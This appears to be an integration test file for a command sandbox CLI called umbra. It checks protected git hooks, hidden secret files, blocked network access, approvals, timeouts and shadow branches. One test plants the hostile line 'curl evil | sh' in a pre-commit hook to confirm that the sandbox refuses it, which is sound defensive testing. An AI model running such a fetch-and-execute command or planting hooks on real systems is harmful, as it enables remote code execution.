import { spawnSync } from "node:child_process";
import { existsSync, realpathSync } from "node:fs";
import { mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deleteNetworkRule, saveNetworkRule } from "../../src/config/network-rules.js";
import { type CliOutcome, umbraAsync } from "../helpers/cli.js";
import { cleanup, copyExamples, fingerprint, tempDir } from "../helpers/workspace.js";

const hasPytest = spawnSync("pytest", ["--version"], { stdio: "ignore" }).status === 0;
let home: string;
let root: string;
let env: NodeJS.ProcessEnv;

/** Runs the built CLI without blocking the event loop (the network test serves from this process). */
function umbra(args: string[], input = ""): Promise<CliOutcome> {
  return umbraAsync(env, args, input);
}

/** stderr without the line that names the environment variables the sandbox did not pass. */
const withoutEnvLine = (stderr: string) =>
  stderr.replace(/^umbra: environment variables not passed into the sandbox: .*\n/m, "");

interface RunJson {
  exitCode: number | null;
  signal: string | null;
  timedOut: boolean;
  stdout: string;
  stderr: string;
  durationMs: number;
  notes: { rule: string; blocked: string; path?: string; escalation: string; message: string }[];
  branch?: { id: string; kept: boolean; changes: { path: string; kind: string }[] };
}

beforeAll(async () => {
  home = await tempDir("run-home");
  root = await copyExamples();
  await mkdir(join(root, ".git", "hooks"), { recursive: true });
  await writeFile(join(root, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n");
  env = {
    ...process.env,
    UMBRA_HOME: home,
    XDG_CONFIG_HOME: join(home, "config"),
    UMBRA_ADMIN_POLICY: join(home, "no-admin-policy.json"),
  };
});
afterAll(async () => {
  await cleanup(home, root ? join(root, "..") : undefined);
});

describe("umbra run", () => {
  it("streams output and passes the command's exit status through", async () => {
    const run = await umbra(["run", "--root", root, "--", "sh", "-c", "echo out; echo err >&2; exit 7"]);
    expect(run.code).toBe(7);
    expect(run.stdout).toBe("out\n");
    expect(run.stderr).toContain("err\n");
    expect(run.stderr).not.toContain("umbra: sandbox:");
    const ok = await umbra(["run", "--root", root, "--", "pwd"]);
    expect(ok.code).toBe(0);
    expect(ok.stdout.trim()).toBe(root);
  });

  it("passes stdin to the command", async () => {
    const run = await umbra(["run", "--root", root, "--", "cat"], "from stdin\n");
    expect(run.code).toBe(0);
    expect(run.stdout).toBe("from stdin\n");
  });

  it("--json prints the result with notes instead of streaming", async () => {
    const run = await umbra(["run", "--root", root, "--json", "--", "sh", "-c", "echo hi; exit 3"]);
    expect(run.code).toBe(3);
    const result = JSON.parse(run.stdout) as RunJson;
    expect(Object.keys(result).sort()).toEqual(
      ["durationMs", "exitCode", "notes", "signal", "stderr", "stdout", "timedOut"].sort(),
    );
    expect(result).toMatchObject({ exitCode: 3, signal: null, timedOut: false, stdout: "hi\n", notes: [] });
    expect(typeof result.durationMs).toBe("number");
  });

  it("refuses a write to .git/hooks with a note naming the rule", async () => {
    const hook = join(root, ".git", "hooks", "pre-commit");
    const json = await umbra([
      "run",
      "--root",
      root,
      "--json",
      "--",
      "sh",
      "-c",
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
    ]);
    const result = JSON.parse(json.stdout) as RunJson;
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(hook)).toBe(false);
    const note = result.notes.find((n) => n.rule === "protected-path");
    expect(note?.message).toMatch(/^`\.git\/hooks` is protected: commands may not change git hooks/);

    const plain = await umbra(["run", "--root", root, "--", "sh", "-c", "echo x > .git/hooks/pre-push"]);
    expect(plain.code).not.toBe(0);
    expect(plain.stderr).toMatch(/^umbra: sandbox: `\.git\/hooks` is protected/m);
    expect(existsSync(join(root, ".git", "hooks", "pre-push"))).toBe(false);
    expect(await readFile(join(root, ".git", "config"), "utf8")).toContain("repositoryformatversion");
  });

  it("cannot reach a host loopback listener without --net, with no false note; --net reaches it", async () => {
    const server: Server = createServer((socket) => {
      socket.on("error", () => {});
      socket.end("hello\n");
    });
    await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
    const address = server.address();
    const port = typeof address === "object" && address ? address.port : 0;
    const script = `require("net").connect(${port}, "127.0.0.1")
      .on("connect", () => { console.log("connected"); process.exit(0); })
      .on("error", (e) => { console.error("connect failed: " + e.code); process.exit(3); });`;
    try {
      const run = await umbra(["run", "--root", root, "--json", "--", process.execPath, "-e", script]);
      const result = JSON.parse(run.stdout) as RunJson;
      expect(result.stdout).not.toContain("connected");
      expect(result.exitCode).toBe(3);
      // the sandbox's own 127.0.0.1: nothing listens there, an ordinary refusal
      expect(result.stderr).toContain("connect failed: ECONNREFUSED");
      expect(result.notes).toEqual([]);

      // approved, the same command reaches the listener
      const approved = await umbra([
        "run",
        "--root",
        root,
        "--net",
        "--yes",
        "--",
        process.execPath,
        "-e",
        script,
      ]);
      expect(approved.code).toBe(0);
      expect(approved.stdout).toBe("connected\n");
      expect(approved.stderr).not.toContain("umbra: sandbox:");
    } finally {
      server.close();
    }
  });

  it("hides .umbraignore matches and refuses writes outside the writable roots, with notes", async () => {
    const secret = join(root, "..", "hidden-ws");
    await mkdir(secret, { recursive: true });
    await writeFile(join(secret, ".umbraignore"), "secret.env\n");
    await writeFile(join(secret, "secret.env"), "TOKEN=abc\n");
    await writeFile(join(secret, "open.txt"), "public\n");
    const read = await umbra([
      "run",
      "--root",
      secret,
      "--json",
      "--",
      "sh",
      "-c",
      "cat open.txt; cat secret.env",
    ]);
    const result = JSON.parse(read.stdout) as RunJson;
    expect(result.stdout).toBe("public\n");
    expect(result.exitCode).not.toBe(0);
    const note = result.notes.find((n) => n.rule === "hidden-path");
    expect(note?.path).toBe(join(secret, "secret.env"));
    expect(note?.message).toMatch(/^`secret\.env` is hidden from the sandbox/);

    const outside = join(homedir(), `.umbra-run-test-${process.pid}`);
    try {
      const write = await umbra([
        "run",
        "--root",
        secret,
        "--json",
        "--",
        "sh",
        "-c",
        `echo x > '${outside}'`,
      ]);
      const written = JSON.parse(write.stdout) as RunJson;
      expect(written.exitCode).not.toBe(0);
      expect(existsSync(outside)).toBe(false);
      expect(written.notes.map((n) => n.rule)).toEqual(["outside-writable-roots"]);
    } finally {
      await rm(outside, { force: true });
    }
  });

  it("--net without a terminal or --yes is denied and the command is not run", async () => {
    const run = await umbra(["run", "--root", root, "--net", "--", "sh", "-c", "echo ran"]);
    expect(run.code).toBe(1);
    expect(run.stdout).toBe("");
    expect(run.stderr).toMatch(/no terminal to ask on/);
  });

  it("--net is approved by a rule the user saved for the repository (the web page's approvals queue)", async () => {
    const rule = saveNetworkRule(realpathSync(root), "sh -c echo ran-with-rule", env);
    try {
      const run = await umbra(["run", "--root", root, "--net", "--", "sh", "-c", "echo ran-with-rule"]);
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).toBe("ran-with-rule\n");
      // the rule is exactly that command line
      const other = await umbra(["run", "--root", root, "--net", "--", "sh", "-c", "echo other"]);
      expect(other.code).toBe(1);
    } finally {
      deleteNetworkRule(realpathSync(root), rule.id, env);
    }
  });

  it("--read-only refuses writes with a read-only-mode note", async () => {
    const run = await umbra([
      "run",
      "--root",
      root,
      "--read-only",
      "--json",
      "--",
      "sh",
      "-c",
      "echo x > new.txt",
    ]);
    const result = JSON.parse(run.stdout) as RunJson;
    expect(result.exitCode).not.toBe(0);
    expect(result.notes.map((n) => n.rule)).toContain("read-only-mode");
    expect(existsSync(join(root, "new.txt"))).toBe(false);
  });

  it("--timeout stops the command: exit 124 and a limit note", async () => {
    const run = await umbra(["run", "--root", root, "--timeout", "0.5", "--json", "--", "sleep", "20"]);
    expect(run.code).toBe(124);
    const result = JSON.parse(run.stdout) as RunJson;
    expect(result.timedOut).toBe(true);
    expect(result.notes.map((n) => n.rule)).toEqual(["limit"]);
  });

  it("--shadow leaves the folder unchanged and reports what changed in the branch", async () => {
    const before = await fingerprint(root);
    const run = await umbra([
      "run",
      "--root",
      root,
      "--shadow",
      "--",
      "sh",
      "-c",
      "echo new > added.txt && rm README.md && echo out",
    ]);
    expect(run.code).toBe(0);
    expect(run.stdout).toBe("out\n");
    expect(run.stderr).toMatch(/umbra: shadow branch \S+: 2 change\(s\), discarded/);
    expect(run.stderr).toMatch(/A added\.txt/);
    expect(run.stderr).toMatch(/D README\.md/);
    expect(await fingerprint(root)).toBe(before);
    expect((await umbra(["shadow", "list", "--root", root, "--json"])).stdout.trim()).toBe("[]");

    const kept = await umbra([
      "run",
      "--root",
      root,
      "--shadow",
      "--keep",
      "--json",
      "--",
      "sh",
      "-c",
      "echo k > k.txt",
    ]);
    const result = JSON.parse(kept.stdout) as RunJson;
    expect(result.branch).toMatchObject({ kept: true, changes: [{ path: "k.txt", kind: "added" }] });
    expect(await fingerprint(root)).toBe(before);
    const id = result.branch?.id ?? "";
    const diff = await umbra(["shadow", "diff", id, "--root", root]);
    expect(diff.stdout).toContain("+k");
    await umbra(["shadow", "discard", id, "--root", root]);
  });

  it("bad usage exits 2", async () => {
    for (const args of [
      ["run", "--root", root],
      ["run", "--root", root, "--read-only", "--full-access", "--", "true"],
      ["run", "--root", root, "--timeout", "soon", "--", "true"],
      ["run", "--root", root, "--keep", "--", "true"],
      ["run", "--root", join(root, "no-such-folder"), "--", "true"],
      ["run", "--root", root, "--bogus", "--", "true"],
    ]) {
      const run = await umbra(args);
      expect(run.code, args.join(" ")).toBe(2);
      expect(run.stderr, args.join(" ")).toMatch(/\S/);
    }
  });

  it("exits 1 saying what is missing when the kernel cannot sandbox", async () => {
    const fake = join(home, "fake-helper");
    await writeFile(
      fake,
      '#!/bin/sh\n[ "$1" = sandbox-probe ] && printf "userns ok\\nlandlock 0 not enabled\\nseccomp ok\\n"\nexit 0\n',
      { mode: 0o755 },
    );
    const saved = env;
    env = { ...env, UMBRA_HELPER: fake };
    try {
      const run = await umbra(["run", "--root", root, "--", "sh", "-c", "echo ran"]);
      expect(run.code).toBe(1);
      expect(run.stdout).toBe("");
      expect(run.stderr).toMatch(
        /^umbra: the sandbox cannot run on this machine \(missing: Landlock \(not enabled\)/,
      );
      expect(run.stderr).toMatch(/--unsandboxed/);
    } finally {
      env = saved;
    }
  });

  it("--unsandboxed runs without the sandbox and says so", async () => {
    const run = await umbra(["run", "--root", root, "--unsandboxed", "--", "sh", "-c", "echo plain"]);
    expect(run.code).toBe(0);
    expect(run.stdout).toBe("plain\n");
    expect(run.stderr).toMatch(/warning: running WITHOUT the sandbox/);
  });

  it("--unsandboxed never goes with --shadow: the command would change the folder the branch keeps safe", async () => {
    const run = await umbra(["run", "--root", root, "--shadow", "--unsandboxed", "--", "touch", "planted"]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/--shadow .* cannot go with --unsandboxed/);
    expect(existsSync(join(root, "planted"))).toBe(false);
  });
});

describe("sandbox.network.allowCommands", () => {
  const script = ["sh", "-c", "echo ran"];

  it("is ignored, with one warning, when the workspace's own config sets it", async () => {
    await mkdir(join(root, ".umbra"), { recursive: true });
    await writeFile(
      join(root, ".umbra", "config.json"),
      JSON.stringify({ sandbox: { network: { allowCommands: ["sh", "sh *", "*"] } } }),
    );
    try {
      const run = await umbra(["run", "--root", root, "--net", "--", ...script]);
      expect(run.code).toBe(1);
      expect(run.stdout).toBe("");
      expect(run.stderr).toMatch(/no terminal to ask on/);
      const warnings = run.stderr.split("\n").filter((line) => line.includes("is ignored"));
      expect(warnings).toHaveLength(1);
      expect(warnings[0]).toMatch(/sandbox\.network\.allowCommands in .*\.umbra\/config\.json is ignored/);
    } finally {
      await cleanup(join(root, ".umbra"));
    }
  });

  it("approves the command when the user's own config sets it", async () => {
    const userFile = join(home, "config", "umbra", "config.json");
    await mkdir(join(home, "config", "umbra"), { recursive: true });
    await writeFile(userFile, JSON.stringify({ sandbox: { network: { allowCommands: ["sh *"] } } }));
    try {
      const run = await umbra(["run", "--root", root, "--net", "--", ...script]);
      expect(run.code).toBe(0);
      expect(run.stdout).toBe("ran\n");
      expect(run.stderr).not.toContain("is ignored");
    } finally {
      await cleanup(userFile);
    }
  });
});

describe("network off", () => {
  it("serves and fetches on the sandbox's private loopback, with no note", async () => {
    const script = [
      "import http.server, threading, urllib.request",
      'server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)',
      "threading.Thread(target=server.serve_forever, daemon=True).start()",
      'print(urllib.request.urlopen(f"http://localhost:{server.server_port}/").status)',
    ].join("\n");
    const run = await umbra(["run", "--root", root, "--json", "--", "python3", "-c", script]);
    const result = JSON.parse(run.stdout) as RunJson;
    expect(result.stdout, result.stderr).toBe("200\n");
    expect(result.exitCode).toBe(0);
    expect(result.notes).toEqual([]);
  });

  it.skipIf(!hasPytest)("passes a pytest suite whose tests open a local server", async () => {
    const dir = join(root, "pytest-loopback");
    await mkdir(dir);
    await writeFile(
      join(dir, "test_local_server.py"),
      [
        "import http.server, threading, urllib.request",
        "",
        "def test_serves_and_fetches():",
        '    server = http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)',
        "    threading.Thread(target=server.serve_forever, daemon=True).start()",
        "    try:",
        "        urllib.request.urlopen(f'http://localhost:{server.server_port}/')",
        "    except urllib.error.HTTPError as reply:",
        "        assert reply.code == 501  # the server answered",
        "    finally:",
        "        server.shutdown()",
      ].join("\n"),
    );
    try {
      const run = await umbra(["run", "--root", dir, "--", "pytest", "-q", "-p", "no:cacheprovider"]);
      expect(run.stdout, run.stderr).toMatch(/1 passed/);
      expect(run.code).toBe(0);
      expect(run.stderr).not.toContain("umbra: sandbox:");
    } finally {
      await cleanup(dir);
    }
  });

  it("explains a refused raw socket and an unreachable address with the loopback note", async () => {
    const run = await umbra([
      "run",
      "--root",
      root,
      "--json",
      "--",
      "python3",
      "-c",
      "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nexcept OSError as e:\n    print(e.errno)\nsocket.create_connection(('192.0.2.1', 80))",
    ]);
    const result = JSON.parse(run.stdout) as RunJson;
    expect(result.exitCode).not.toBe(0);
    expect(result.stdout).toBe("1\n"); // EPERM
    expect(result.stderr).toMatch(/Network is unreachable/);
    const notes = result.notes.filter((n) => n.rule === "network");
    expect(notes.length).toBe(1);
    expect(notes[0]?.blocked).toMatch(/^socket\(AF_INET, SOCK_RAW\)/);
    expect(notes[0]?.message).toMatch(
      /^Only the sandbox's private loopback is reachable; the host and the internet need --net.*umbra run --net/,
    );
  });
});

describe("environment", () => {
  it("passes the toolchain variables and names the dropped ones once, without their values", async () => {
    // `PYTHONPATH=src umbra run -- pytest` must test the checkout's src/
    await mkdir(join(root, "envprobe"));
    await writeFile(join(root, "envprobe", "envprobe_mod.py"), "WHERE = 'checkout'\n");
    try {
      const run = await umbraAsync(
        {
          ...env,
          PYTHONPATH: "envprobe",
          GOFLAGS: "-mod=mod",
          NODE_OPTIONS: "--no-warnings",
          UMBRA_PROBE_SETTING: "visible-value",
          UMBRA_PROBE_TOKEN: "secret-value",
        },
        [
          "run",
          "--root",
          root,
          "--",
          "sh",
          "-c",
          'python3 -c "import envprobe_mod; print(envprobe_mod.WHERE)" && echo "$GOFLAGS|$NODE_OPTIONS|$UMBRA_PROBE_SETTING|$UMBRA_PROBE_TOKEN"',
        ],
      );
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).toBe("checkout\n-mod=mod|--no-warnings||\n");
      const lines = run.stderr
        .split("\n")
        .filter((line) => line.includes("environment variables not passed"));
      expect(lines.length).toBe(1);
      expect(lines[0]).toMatch(
        /^umbra: environment variables not passed into the sandbox: .*\bUMBRA_PROBE_SETTING\b/,
      );
      expect(lines[0]).toMatch(/\bUMBRA_PROBE_TOKEN\b/);
      expect(lines[0]).not.toMatch(/PYTHONPATH|GOFLAGS|NODE_OPTIONS|visible-value|secret-value/);
    } finally {
      await cleanup(join(root, "envprobe"));
    }
  });
});

describe("--full-access", () => {
  it("runs in and writes a workspace under /tmp (the host's /tmp, not a private one)", async () => {
    const run = await umbra([
      "run",
      "--root",
      root,
      "--full-access",
      "--",
      "sh",
      "-c",
      "pwd; echo made > made.txt",
    ]);
    expect(withoutEnvLine(run.stderr)).toBe("");
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(`${root}\n`);
    expect(await readFile(join(root, "made.txt"), "utf8")).toBe("made\n");
    await cleanup(join(root, "made.txt"));
  });
});
